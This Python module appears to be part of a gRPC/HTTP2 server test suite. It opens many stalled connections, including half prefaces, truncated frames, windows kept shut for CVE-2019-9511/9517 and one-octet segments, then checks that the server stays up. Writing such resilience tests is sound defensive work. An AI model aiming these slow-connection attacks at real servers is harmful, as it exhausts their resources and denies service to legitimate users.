"""Attacks that cost by not going on. They end when the attacker goes; what they hold meanwhile must be little."""

import socket
import struct
import time

from attacker import WINDOW_UPDATE, Attacker, request
from floods import HOLD
from grpc_call import envelope
from raw_http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, frame

INITIAL_WINDOW_SIZE = 4
HOLD_S = 1  # while the honest client is measured
STREAMING_OUTPUT = "/grpc.testing.TestService/StreamingOutputCall"
# StreamingOutputCallRequest{response_parameters{size: 8192} x 500}: 4 MiB in all. A handler that makes one message of
# so much holds it; how many may do that at a time is for the application to say.
LARGE_ANSWER = envelope(b"\x12\x03\x08\x80\x40" * 500)


def hold(attackers):
    """Are all of them still there after a while? Then they go."""
    time.sleep(HOLD_S)
    ends = set()
    for attacker in attackers:
        attacker.read_until(lambda: attacker.closed, 0)  # pylint: disable=cell-var-from-loop
        ends.add(attacker.connection_end())
        attacker.close()
    return ", ".join(sorted(ends))


def half_prefaces(server):
    attackers = [Attacker(server, preface=b"") for _ in range(200)]
    for attacker in attackers:
        attacker.send(PREFACE[:10])
    return hold(attackers)


def half_header_blocks(server):
    attackers = [Attacker(server) for _ in range(200)]
    for attacker in attackers:
        attacker.send(frame(HEADERS, 0, 1, request()[:20]))
    return hold(attackers)


def half_messages(server):
    """Each declares four MiB and sends nine octets."""
    attackers = [Attacker(server) for _ in range(200)]
    for attacker in attackers:
        attacker.send(frame(HEADERS, END_HEADERS, 1, request(HOLD)) +
                      frame(DATA, 0, 1, envelope(b"abcd", length=4 << 20)))
    return hold(attackers)


def windows_that_stay_shut(server):
    """CVE-2019-9511, CVE-2019-9517: large answers are asked for, and nothing of them is taken."""
    attackers = [Attacker(server, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) for _ in range(10)]
    for attacker in attackers:
        for stream in range(1, 21, 2):
            attacker.send(frame(HEADERS, END_HEADERS, stream, request(STREAMING_OUTPUT)) +
                          frame(DATA, END_STREAM, stream, LARGE_ANSWER))
    return hold(attackers)


def socket_that_is_not_read(server):
    """The windows are open, and the socket is not read."""
    attacker = Attacker(server, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1), read=False)
    attacker.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30)))
    for stream in range(1, 101, 2):
        attacker.send(frame(HEADERS, END_HEADERS, stream, request(STREAMING_OUTPUT)) +
                      frame(DATA, END_STREAM, stream, LARGE_ANSWER))
    time.sleep(HOLD_S)
    attacker.close()
    return "open"


def octet_by_octet(server):
    """A whole call, one octet in each segment."""
    attacker = Attacker(server, acknowledge=False)  # which would stand in the middle of a frame
    attacker.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    call = frame(HEADERS, END_HEADERS, 1, request()) + frame(DATA, END_STREAM, 1, envelope(b""))
    for i in range(len(call)):
        attacker.send(call[i:i + 1])
    attacker.read_until(lambda: attacker.is_over(1))
    end = attacker.stream_end(1)
    attacker.close()
    return end


def settings_that_are_not_acknowledged(server):
    attackers = [Attacker(server, acknowledge=False) for _ in range(50)]
    return hold(attackers)


EXPECTED = {
    half_prefaces: "open",
    half_header_blocks: "open",
    half_messages: "open",
    windows_that_stay_shut: "open",
    socket_that_is_not_read: "open",
    octet_by_octet: "status 0",
    settings_that_are_not_acknowledged: "open",
}
